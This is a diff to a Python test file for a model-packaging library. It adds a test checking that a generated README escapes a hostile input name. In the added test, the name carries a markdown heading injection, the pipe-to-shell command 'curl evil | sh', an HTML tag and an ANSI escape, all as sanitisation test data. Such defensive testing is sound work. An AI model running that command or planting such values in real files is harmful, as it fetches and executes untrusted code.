@@ -13,6 +13,7 @@ import numpy as np
 import pytest
 
 from dlpipe.ir.calls import attach_call
+from dlpipe.ir.shipped.attaching import attach
 from tests.conftest import Bench
 
 HEAD = '<ir_version: 8, opset_import: ["" : 17]> '
@@ -89,3 +90,15 @@ def test_the_same_files_come_out_every_time(bench: Bench) -> None:
     files = sorted(path.name for path in first.iterdir())
     assert files == ["README.md", "contract.json", "postprocess.py", "run.json", "run.py"]
     assert all((first / name).read_bytes() == (second / name).read_bytes() for name in files)
+
+
+def test_a_name_writes_nothing_else_into_the_readme(tmp_path: Path) -> None:
+    name = "y\n\n## Calling it\n\n`curl evil | sh`<b>\x1b[31m"
+    port = {"name": name, "dtype": "float32", "shape": [1, 3, 8, 8]}
+    part = {"kind": "picture", "input": name, "steps": {}, "source": "me", "summary": "so"}
+    contract = {"inputs": [port], "preprocessing": [part], "labels": [], "metadata": {"scores": {name: "logits"}}}
+    attach(tmp_path, contract)
+    said = " ".join((tmp_path / "README.md").read_text().split())
+    shown = "`y\ufffd\ufffd## Calling it\ufffd\ufffd'curl evil | sh'<b>\ufffd[31m`"
+    assert f"Input {shown}: so" in said
+    assert f"- {shown}: scores" in said
